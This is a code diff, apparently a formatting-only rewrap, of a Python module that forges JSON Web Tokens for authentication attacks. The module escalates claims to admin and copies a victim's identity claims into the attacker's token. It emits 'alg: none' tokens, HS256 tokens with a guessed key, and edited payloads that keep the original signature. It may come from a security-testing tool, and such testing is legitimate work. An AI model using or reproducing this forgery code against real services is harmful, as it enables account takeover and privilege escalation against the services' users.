@@ -21,8 +21,14 @@ from typing import Any
 __all__ = ["Forgery", "parse_jwt", "encode_jwt", "escalate", "forgeries", "ROLE_CLAIMS", "IDENTITY_CLAIMS"]
 
 # claims that carry a role or a privilege, and what "admin" looks like in each
-ROLE_CLAIMS: dict[str, Any] = {"role": "admin", "roles": ["admin"], "admin": True, "is_admin": True,
-                               "isAdmin": True, "scope": "admin"}
+ROLE_CLAIMS: dict[str, Any] = {
+    "role": "admin",
+    "roles": ["admin"],
+    "admin": True,
+    "is_admin": True,
+    "isAdmin": True,
+    "scope": "admin",
+}
 # claims that say who the token is for (copied from the victim's token into the attacker's)
 IDENTITY_CLAIMS = ("sub", "uid", "user_id", "userId", "email", "tid", "tenant", "tenant_id", "tenantId")
 
@@ -53,8 +59,14 @@ def parse_jwt(token: str) -> tuple[dict[str, Any], dict[str, Any]] | None:
     return header, claims
 
 
-def encode_jwt(claims: Mapping[str, Any], *, alg: str = "HS256", key: bytes = b"", signature: str | None = None,
-               header: Mapping[str, Any] | None = None) -> str:
+def encode_jwt(
+    claims: Mapping[str, Any],
+    *,
+    alg: str = "HS256",
+    key: bytes = b"",
+    signature: str | None = None,
+    header: Mapping[str, Any] | None = None,
+) -> str:
     """A JWT of `claims`: `alg: none` with an empty signature, HS256 signed with `key`, or any
     `signature` given as is (an edited payload next to the real token's signature)."""
     head = dict(header or {"typ": "JWT"})
@@ -105,8 +117,11 @@ def forgeries(real_token: str | None, victim_token: str | None, now: float) -> t
         note = ""
     else:
         header, claims = {"typ": "JWT"}, {"sub": "1", "iat": int(now), "exp": int(now) + 3600}
-        note = ("the session token is not a JWT: forged JWTs made from generic claims"
-                if real_token else "no session token could be obtained: forged JWTs made from generic claims")
+        note = (
+            "the session token is not a JWT: forged JWTs made from generic claims"
+            if real_token
+            else "no session token could be obtained: forged JWTs made from generic claims"
+        )
     forged = escalate(claims, victim[1] if victim else None)
     if isinstance(forged.get("exp"), (int, float)) and forged["exp"] <= now:
         forged["exp"] = int(now) + 3600
@@ -118,6 +133,7 @@ def forgeries(real_token: str | None, victim_token: str | None, now: float) -> t
     if parsed is not None and real_token:
         head_b64, _, signature = real_token.split(".")
         payload = _b64encode(_json(forged))
-        made.append(Forgery("payload edited to another user and admin, old signature kept",
-                            f"{head_b64}.{payload}.{signature}"))
+        made.append(
+            Forgery("payload edited to another user and admin, old signature kept", f"{head_b64}.{payload}.{signature}")
+        )
     return made, note
